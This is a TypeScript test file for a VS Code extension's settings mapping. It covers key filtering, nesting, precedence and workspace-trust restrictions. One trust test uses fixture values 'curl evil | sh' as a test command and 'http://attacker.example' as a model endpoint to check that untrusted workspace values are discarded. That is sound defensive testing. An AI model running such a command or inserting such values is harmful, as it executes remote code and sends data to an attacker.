import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { buildOptions, configurationChange, restrictedKeys, serverKeys, type Inspected } from "../src/options";

// the real manifest: the keys users see are the keys mapped
const manifest = JSON.parse(readFileSync(join(__dirname, "..", "..", "package.json"), "utf8"));
const properties = manifest.contributes.configuration.properties;
const keys = serverKeys(properties);

function inspector(layers: Record<string, Inspected>) {
  return (key: string) => layers[key] ?? {};
}

test("client-only settings are not sent to the server", () => {
  assert.ok(keys.includes("model.path"));
  assert.ok(keys.includes("model.completionPath") && keys.includes("model.generationPath"));
  assert.ok(keys.includes("logLevel") && keys.includes("testCommand"));
  for (const k of ["serverPath", "serverArgs", "trace.server"]) assert.ok(!keys.includes(k), k);
  assert.ok(!keys.includes("trustedWorkspace"), "trust comes from VS Code, not from a setting");
});

test("nothing set: only trustedWorkspace, so ragls.toml is not hidden by defaults", () => {
  assert.deepEqual(buildOptions(keys, () => ({}), false), { trustedWorkspace: false });
  assert.deepEqual(buildOptions(keys, () => undefined, true), { trustedWorkspace: true });
});

test("explicit values nest under their section with the server's camelCase names", () => {
  const options = buildOptions(
    keys,
    inspector({
      "model.path": { globalValue: "/models/a.gguf" },
      "model.maxTokens": { workspaceValue: 32 },
      "context.sources": { globalValue: ["graph", "lexical"] },
      "completion.enableCompletionFallback": { workspaceFolderValue: false },
      "logLevel": { globalValue: "debug" },
      "index.languages": { globalValue: null },
    }),
    true,
  );
  assert.deepEqual(options, {
    model: { path: "/models/a.gguf", maxTokens: 32 },
    context: { sources: ["graph", "lexical"] },
    completion: { enableCompletionFallback: false },
    logLevel: "debug",
    trustedWorkspace: true,
  });
});

test("folder settings win over workspace settings over user settings", () => {
  const options = buildOptions(
    keys,
    inspector({ "model.threads": { globalValue: 1, workspaceValue: 2, workspaceFolderValue: 3 } }),
    true,
  );
  assert.deepEqual(options.model, { threads: 3 });
});

test("untrusted workspace: restricted settings keep only the user's own value", () => {
  const restricted = restrictedKeys(manifest);
  assert.ok(restricted.has("testCommand") && restricted.has("model.endpoint") && restricted.has("serverPath"));
  const layers = inspector({
    testCommand: { globalValue: "pytest -q", workspaceValue: "curl evil | sh" },
    "model.endpoint": { workspaceValue: "http://attacker.example" },
    "model.maxTokens": { workspaceValue: 16 },
  });
  assert.deepEqual(buildOptions(keys, layers, false, restricted), {
    testCommand: "pytest -q",
    model: { maxTokens: 16 },
    trustedWorkspace: false,
  });
  // once trusted, the workspace's values count
  assert.deepEqual(buildOptions(keys, layers, true, restricted), {
    testCommand: "curl evil | sh",
    model: { endpoint: "http://attacker.example", maxTokens: 16 },
    trustedWorkspace: true,
  });
});

test("didChangeConfiguration payload is nested under the ragls section", () => {
  assert.deepEqual(configurationChange({ trustedWorkspace: true }), { settings: { ragls: { trustedWorkspace: true } } });
});
